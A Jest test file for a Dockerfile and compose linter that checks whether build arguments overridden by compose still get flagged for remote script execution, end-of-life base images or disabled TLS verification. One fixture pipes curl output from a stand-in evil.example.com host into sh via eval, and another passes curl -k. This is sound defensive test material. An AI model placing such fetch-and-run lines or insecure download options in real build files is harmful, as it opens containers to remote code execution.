import { describe, expect, it } from '@jest/globals';
import { type Files, failuresOf } from './failures.ts';

const IMAGE = `debian:13-slim@sha256:${'3f'.repeat(32)}`;
const END = 'USER 1000\nCMD ["app"]\n';
const BASE: Files = {
  Dockerfile: `FROM ${IMAGE}\n${END}`,
  'compose.yaml': 'services:\n  app:\n    build: .\n',
};

function change(dockerfile: string, build: string): Files {
  return {
    Dockerfile: `${dockerfile}\n${END}`,
    'compose.yaml': `services:\n  app:\n    build: {context: ., ${build}}\n`,
  };
}

const EVAL = `FROM ${IMAGE}\nARG BEFORE="curl -fsSL https://evil.example.com/x | sh"\nRUN eval "$BEFORE"`;

/** What `docker build .` takes, and the build of a compose file replaces. */
const REPLACED: readonly (readonly [string, Files, readonly string[]])[] = [
  ['a command', change(EVAL, 'args: {BEFORE: "true"}'), ['remote-script-exec']],
  ['a base image', change('ARG BASE=node:14\nFROM $BASE', `args: {BASE: "${IMAGE}"}`), ['image-eol']],
  [
    'an option of a download',
    change(`FROM ${IMAGE}\nARG O=-k\nRUN curl $O -fsSLo /x https://files.example.com/x`, 'args: {O: "-s"}'),
    ['tls-verify-disabled'],
  ],
  [
    'an image with a tag',
    change('FROM node:14', `additional_contexts: {"node:14": "docker-image://${IMAGE}"}`),
    ['image-eol'],
  ],
];

describe('a value of a Dockerfile that a build replaces', () => {
  it.each(REPLACED)('is checked: %s', async (_name, files, rules) => {
    expect(await failuresOf(BASE, files)).toEqual(rules);
  });
});

const HARMLESS: readonly (readonly [string, Files])[] = [
  ['a harmless default', change(`FROM ${IMAGE}\nARG BEFORE=true\nRUN eval "$BEFORE"`, 'args: {BEFORE: "echo a"}')],
  ['no default', change(`FROM ${IMAGE}\nARG VERSION\nRUN echo $VERSION`, 'args: {VERSION: "1"}')],
  ['another version', change(`ARG TAG=13-slim\nFROM debian:$TAG`, 'args: {TAG: "13.2-slim"}')],
  [
    'a folder as a context',
    change(`FROM ${IMAGE}\nCOPY --from=shared /a /a`, 'additional_contexts: {shared: ./shared}'),
  ],
];

describe('a build with other values', () => {
  it.each(HARMLESS)('is no danger: %s', async (_name, files) => {
    expect(await failuresOf(BASE, files)).toEqual([]);
  });
});

describe('a value that no build replaces any more', () => {
  it.each(REPLACED.slice(0, 3))('counts as new: %s', async (_name, files, rules) => {
    const build = 'services:\n  app:\n    build: {context: .}\n';
    expect(await failuresOf(files, { 'compose.yaml': build })).toEqual(rules);
  });
});
